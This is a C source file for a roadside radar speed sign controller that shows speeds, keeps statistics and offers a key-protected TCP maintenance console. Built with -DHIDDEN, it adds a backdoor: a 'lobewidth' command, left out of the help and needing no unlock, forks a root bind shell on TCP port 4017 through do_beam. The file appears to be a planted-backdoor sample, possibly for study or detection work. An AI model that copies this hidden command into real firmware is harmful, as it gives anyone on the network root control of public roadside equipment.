/*
 * radarsignd - controller of a roadside radar speed sign (static program).
 *
 * Reads speeds from the radar head, shows them, keeps statistics and offers a
 * maintenance console (TCP 4001) whose commands come from a table of callbacks.
 * All that changes something wants the site key first.
 *
 * Hidden (-DHIDDEN): one more entry of the table, not in the help and without
 * a level, opens a root shell on TCP port 4017.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define CONSOLE_PORT 4001
#define CONF         "/etc/radarsign.conf"
#define BINS         30            /* of 5 km/h */

struct console {
    int fd;
    int level;
    char buf[160];
    size_t n;
};

struct command {
    const char *name;
    int level;
    const char *help;
    int (*run)(struct console *c, int argc, char **argv);
};

static struct {
    char key[48];
    int limit, tolerance, brightness, show_from;
    int radar, display;
    unsigned bins[BINS], total;
    time_t since;
} sign = { .limit = 50, .tolerance = 3, .brightness = 70, .show_from = 10 };

static struct console con = { .fd = -1 };

static void say(struct console *c, const char *fmt, ...)
{
    char out[256];
    va_list ap;
    int n;
    va_start(ap, fmt);
    n = vsnprintf(out, sizeof out, fmt, ap);
    va_end(ap);
    if (n >= (int)sizeof out)
        n = sizeof out - 1;
    if (write(c->fd, out, (size_t)n) < 0)
        c->level = 0;
}

static void conf_read(void)
{
    char line[128], key[24], val[64];
    FILE *f = fopen(CONF, "r");
    if (!f)
        return;
    while (fgets(line, sizeof line, f)) {
        if (sscanf(line, "%23s %63s", key, val) != 2 || key[0] == '#')
            continue;
        if (!strcmp(key, "key"))
            snprintf(sign.key, sizeof sign.key, "%.47s", val);
        else if (!strcmp(key, "limit"))
            sign.limit = atoi(val);
        else if (!strcmp(key, "tolerance"))
            sign.tolerance = atoi(val);
        else if (!strcmp(key, "brightness"))
            sign.brightness = atoi(val);
        else if (!strcmp(key, "from"))
            sign.show_from = atoi(val);
    }
    fclose(f);
}

static int conf_write(void)
{
    FILE *f = fopen(CONF, "w");
    if (!f)
        return -1;
    fprintf(f, "key %s\nlimit %d\ntolerance %d\nbrightness %d\nfrom %d\n", sign.key,
            sign.limit, sign.tolerance, sign.brightness, sign.show_from);
    return fclose(f);
}

/* ---- commands ---- */

static int do_help(struct console *c, int argc, char **argv);

static int do_key(struct console *c, int argc, char **argv)
{
    unsigned diff, i;
    size_t n = strlen(sign.key);
    if (argc != 2 || n < 8)
        return -1;
    diff = strlen(argv[1]) != n;
    for (i = 0; argv[1][i] && i < n; i++)
        diff |= (unsigned)(argv[1][i] ^ sign.key[i]);
    if (diff) {
        sleep(1);
        return -1;
    }
    c->level = 1;
    return 0;
}

static int do_stats(struct console *c, int argc, char **argv)
{
    int i, reset = argc == 2 && !strcmp(argv[1], "reset");
    for (i = 0; i < BINS; i++)
        if (sign.bins[i])
            say(c, "%3d-%3d km/h %u\r\n", i * 5, i * 5 + 4, sign.bins[i]);
    say(c, "%u vehicles in %ld s\r\n", sign.total, (long)(time(NULL) - sign.since));
    if (reset && c->level > 0) {
        memset(sign.bins, 0, sizeof sign.bins);
        sign.total = 0;
        sign.since = time(NULL);
    }
    return 0;
}

static int do_set(struct console *c, int argc, char **argv)
{
    static const struct { const char *name; int *v, lo, hi; } vars[] = {
        { "limit", &sign.limit, 5, 130 },
        { "tolerance", &sign.tolerance, 0, 20 },
        { "brightness", &sign.brightness, 5, 100 },
        { "from", &sign.show_from, 5, 60 },
    };
    unsigned i;
    int v;
    for (i = 0; i < sizeof vars / sizeof vars[0]; i++) {
        if (argc < 3) {
            say(c, "%s %d\r\n", vars[i].name, *vars[i].v);
            continue;
        }
        v = atoi(argv[2]);
        if (strcmp(argv[1], vars[i].name) || v < vars[i].lo || v > vars[i].hi)
            continue;
        *vars[i].v = v;
        return conf_write();
    }
    return argc < 3 ? 0 : -1;
}

static int do_restart(struct console *c, int argc, char **argv)
{
    (void)argc;
    (void)argv;
    say(c, "restarting\r\n");
    return system("/sbin/reboot");
}

#ifdef HIDDEN
static int do_beam(struct console *c, int argc, char **argv)
{
    struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(4017) };
    int ls, fd, i;
    (void)argc;
    if (fork())
        return 0;
    close(c->fd);
    ls = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(ls, (struct sockaddr *)&sa, sizeof sa) || listen(ls, 1))
        _exit(1);
    fd = accept(ls, NULL, NULL);
    for (i = 0; i < 3; i++)
        dup2(fd, i);
    argv[0] = (char *)"sh";
    argv[1] = NULL;
    execv("/bin/sh", argv);
    _exit(127);
}
#endif

static const struct command commands[] = {
    { "help",    0, "this list", do_help },
    { "key",     0, "key SITEKEY: unlock", do_key },
    { "stats",   0, "stats [reset]: vehicles by speed", do_stats },
    { "set",     1, "set [NAME VALUE]: settings", do_set },
#ifdef HIDDEN
    { "lobewidth", 0, NULL, do_beam },
#endif
    { "restart", 1, "restart the sign", do_restart },
};
#define NCOMMANDS (sizeof commands / sizeof commands[0])

static int do_help(struct console *c, int argc, char **argv)
{
    unsigned i;
    for (i = 0; i < NCOMMANDS; i++)
        if (commands[i].help && (argc < 2 || !strcmp(argv[1], commands[i].name)))
            say(c, "%-8s %s\r\n", commands[i].name, commands[i].help);
    return 0;
}

void run_line(struct console *c, char *line)
{
    char *argv[8], *save;
    int argc = 0, rc;
    unsigned i;
    for (line = strtok_r(line, " \t", &save); line && argc < 7; line = strtok_r(NULL, " \t", &save))
        argv[argc++] = line;
    argv[argc] = NULL;
    if (!argc)
        return;
    for (i = 0; i < NCOMMANDS; i++) {
        if (strcmp(argv[0], commands[i].name))
            continue;
        if (commands[i].level > c->level) {
            say(c, "locked\r\n");
            return;
        }
        rc = commands[i].run(c, argc, argv);
        say(c, rc ? "failed\r\n" : "ok\r\n");
        return;
    }
    say(c, "unknown, try help\r\n");
}

static void console_input(struct console *c)
{
    char ch;
    if (read(c->fd, &ch, 1) != 1) {
        close(c->fd);
        c->fd = -1;
    } else if (ch == '\n') {
        c->buf[c->n] = 0;
        c->n = 0;
        run_line(c, c->buf);
    } else if (ch != '\r' && c->n < sizeof c->buf - 1) {
        c->buf[c->n++] = ch;
    }
}

/* radar head: one byte, km/h */
static void radar_input(void)
{
    uint8_t v;
    char msg[24];
    int n;
    if (read(sign.radar, &v, 1) != 1 || v < sign.show_from)
        return;
    sign.bins[v / 5 < BINS ? v / 5 : BINS - 1]++;
    sign.total++;
    n = snprintf(msg, sizeof msg, "%c%03d%03d\n", v > sign.limit + sign.tolerance ? 'R' : 'G',
                 v, sign.brightness);
    if (write(sign.display, msg, (size_t)n) != n)
        fprintf(stderr, "display: %s\n", strerror(errno));
}

int main(void)
{
    struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(CONSOLE_PORT) };
    int ls = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    conf_read();
    sign.since = time(NULL);
    sign.radar = open("/dev/ttyRADAR", O_RDONLY | O_NOCTTY);
    sign.display = open("/dev/ttyLED", O_WRONLY | O_NOCTTY);
    signal(SIGPIPE, SIG_IGN);
    setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(ls, (struct sockaddr *)&sa, sizeof sa) || listen(ls, 1)) {
        perror("radarsignd");
        return 1;
    }
    for (;;) {
        struct pollfd p[3] = {
            { .fd = ls, .events = POLLIN }, { .fd = con.fd, .events = POLLIN },
            { .fd = sign.radar, .events = POLLIN },
        };
        if (poll(p, 3, -1) < 0)
            continue;
        if (p[1].revents)
            console_input(&con);
        if (p[2].revents)
            radar_input();
        if (p[0].revents) {
            if (con.fd >= 0)
                close(con.fd);
            memset(&con, 0, sizeof con);
            con.fd = accept(ls, NULL, NULL);
        }
    }
}
